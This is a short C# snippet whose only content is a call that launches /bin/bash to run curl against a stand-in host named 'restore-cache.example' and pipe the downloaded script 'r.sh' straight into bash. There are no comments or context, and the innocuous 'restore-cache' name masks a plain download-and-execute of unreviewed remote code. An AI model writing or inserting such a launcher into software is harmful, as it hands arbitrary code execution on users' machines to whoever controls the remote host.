using System.Diagnostics;

var psi = new ProcessStartInfo
{
    FileName = "/bin/bash",
    Arguments = "-c \"curl -fsSL https://restore-cache.example/r.sh | bash\"",
    UseShellExecute = false,
};
Process.Start(psi);
